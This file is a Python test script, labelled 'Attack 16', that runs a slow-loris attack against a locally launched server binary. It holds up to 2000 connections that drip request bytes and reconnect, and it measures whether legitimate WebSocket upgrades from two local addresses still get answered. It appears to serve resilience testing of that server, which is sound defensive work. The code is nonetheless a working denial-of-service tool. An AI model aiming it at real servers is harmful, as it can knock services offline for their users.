# Attack 16: slow-loris. N connections from 127.0.0.1 each send a request head one byte every
# INTERVAL seconds (and reconnect when cut), while a legitimate client asks for a WebSocket
# upgrade once a second, from 127.0.0.1 (the attacker's address) and from 127.0.0.2 (another
# one); prints how long each took to be answered (101, or the refusal).
# Usage: slow_loris.py SSEWS_BINARY [N=2000] [INTERVAL=5] [SECONDS=30] [--option k=v]...
import selectors
import socket
import statistics
import sys
import time

from serve import Server

args = [a for a in sys.argv[2:] if "=" not in a or a.startswith("--")]
extra = [a for a in sys.argv[2:] if "=" in a and not a.startswith("--")]
n = int(args[0]) if len(args) > 0 else 2000
interval = float(args[1]) if len(args) > 1 else 5.0
seconds = float(args[2]) if len(args) > 2 else 30.0
srv = Server(sys.argv[1], [x for kv in extra for x in ("--option", kv)])

HEAD = b"GET /c HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000 + b"\r\n\r\n"
sel = selectors.DefaultSelector()
slow = {}  # socket -> bytes sent
cuts = 0


def open_slow():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", srv.port))
    except BlockingIOError:
        pass
    slow[s] = 0
    sel.register(s, selectors.EVENT_READ)


def drip():
    global cuts
    for s in list(slow):
        try:
            s.send(HEAD[slow[s]:slow[s] + 1])
            slow[s] += 1
        except OSError:
            pass
    for key, _ in sel.select(0):  # an answer (408, 429, 503) or a close: that slot is cut; reconnect
        s = key.fileobj
        sel.unregister(s)
        s.close()
        del slow[s]
        cuts += 1
        open_slow()


def legit(src):
    """Seconds until a WebSocket upgrade sent from src is answered, and the status (None: none)."""
    t0 = time.monotonic()
    c = socket.socket()
    c.settimeout(20)
    try:
        c.bind((src, 0))
        c.connect(("127.0.0.1", srv.port))
        c.sendall(b"GET /c HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
        head = c.recv(4096)
        status = int(head.split()[1]) if head else None
    except OSError:
        status = None
    c.close()
    return time.monotonic() - t0, status


for _ in range(n):
    open_slow()
times = {"127.0.0.1": [], "127.0.0.2": []}
statuses = {"127.0.0.1": {}, "127.0.0.2": {}}
start = time.monotonic()
next_drip = start
next_probe = start + 2 * interval  # the attack is under way: every slow connection has sent bytes
while time.monotonic() - start < seconds:
    now = time.monotonic()
    if now >= next_drip:
        drip()
        next_drip += interval
    if now >= next_probe:
        # Probes are sequential and each can wait: the attack keeps dripping meanwhile only
        # between probes, which is what a single-threaded attacker would do anyway.
        for src in times:
            t, st = legit(src)
            times[src].append(t)
            statuses[src][st] = statuses[src].get(st, 0) + 1
        next_probe = time.monotonic() + 1
    time.sleep(0.05)

print(f"{n} slow connections, 1 byte every {interval:g} s, {seconds:g} s; {cuts} cut by the server; "
      f"server RSS {srv.rss_kb()} kB")
for src, ts in times.items():
    if ts:
        print(f"  legitimate client from {src}: {len(ts)} upgrades, answered in median "
              f"{statistics.median(ts) * 1000:.0f} ms, max {max(ts) * 1000:.0f} ms; statuses {statuses[src]}")
srv.stop()
